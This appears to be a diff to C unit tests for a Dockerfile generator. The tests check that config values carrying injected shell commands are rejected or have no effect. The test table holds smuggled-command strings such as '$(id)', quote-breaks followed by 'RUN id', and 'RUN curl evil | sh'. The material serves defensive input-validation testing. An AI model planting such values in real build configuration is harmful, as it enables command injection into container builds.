@@ -83,6 +83,8 @@ static const struct row rows[] = {
 	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"bundle exec bootsnap\\nUSER root\"\n", REJECT, "dockerfile.commands.bootsnap" },
 	{ "dockwright.yml", "dockerfile.commands.bootsnap: \"echo $(id) `id` \\\\\"\n", NEUTRAL, NULL },
 	{ "dockwright.yml", "dockerfile.ric.version: \"3.1.3\\\" && curl x\"\n", REJECT, "dockerfile.ric.version" },
+	{ "dockwright.yml", "dockerfile.bundle_without: \"test\\\"\\nRUN id\"\n", REJECT, "dockerfile.bundle_without" },
+	{ "dockwright.yml", "dockerfile.bundle_without: \"test $(id)\"\n", REJECT, "dockerfile.bundle_without" },
 	{ "dockwright.yml", "dockerfile.image_package.from_base.ruby_version: \"3.3.6 AS evil\"\n", NEUTRAL, NULL },
 	{ ".ruby-version", "3.3.6\nRUN curl evil | sh\n", NEUTRAL, NULL },
 	{ ".ruby-version", "$(id)\n", NEUTRAL, NULL },
@@ -108,11 +110,8 @@ setup(void **state)
 static int
 teardown(void **state)
 {
-	char cmd[128];
-
 	(void)state;
-	snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
-	return system(cmd) == 0 ? 0 : -1;
+	return tu_rmtree(dir);
 }
 
 /* Generate for the app in dir: 0 with the Dockerfile, or -1 with the
@@ -166,6 +165,7 @@ hostile_values(void **state)
 	(void)state;
 	tu_put(dir, "Gemfile.lock", lock);
 	tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
+	tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
 	tu_put(dir, "dockwright.yml", "{}\n");
 	assert_int_equal(generate(&base, &d), 0);
 	shape(&base, &base_shape);
@@ -177,6 +177,7 @@ hostile_values(void **state)
 
 		tu_put(dir, "Gemfile.lock", lock);
 		tu_put(dir, "Gemfile", "source \"https://rubygems.org\"\ngem \"rack\"\n");
+		tu_put(dir, "config.ru", "run ->(env) { [200, {}, []] }\n");
 		tu_put(dir, "dockwright.yml", "{}\n");
 		unlink("/nonexistent");
 		tu_put(dir, r->file, r->text);
